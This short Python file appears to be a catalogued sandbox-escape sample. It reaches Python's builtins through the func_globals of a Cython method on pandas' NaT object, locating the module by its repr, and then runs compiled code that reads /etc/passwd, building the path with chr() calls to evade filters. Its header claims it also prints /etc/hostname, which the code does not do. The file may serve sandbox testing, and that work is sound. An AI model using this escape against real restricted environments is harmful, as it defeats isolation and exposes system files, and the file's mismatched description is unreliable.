# source: Cython cyfunction func_globals alias (Cython/Utility/CythonFunction.c __pyx_CyFunction_getsets); pyjail cheat sheets: compile()+exec() from a builtins module
# family: cyfunction func_globals on pandas' NaT singleton's methods; the builtins module found by its repr, no name spelled at all; compile/exec
# goal: compiles and runs code built at run time (import this; prints /etc/hostname and /etc/passwd's first line)
import pandas as pd

b = None
for k, v in pd.NaT.ceil.func_globals.items():
    if str(v).startswith("<module 'builtins'"):
        b = v
src = "import this" + chr(10) + "print(open(chr(47)+'etc'+chr(47)+'passwd').readline())"
code = b.compile(src, "x", "exec")
b.exec(code)
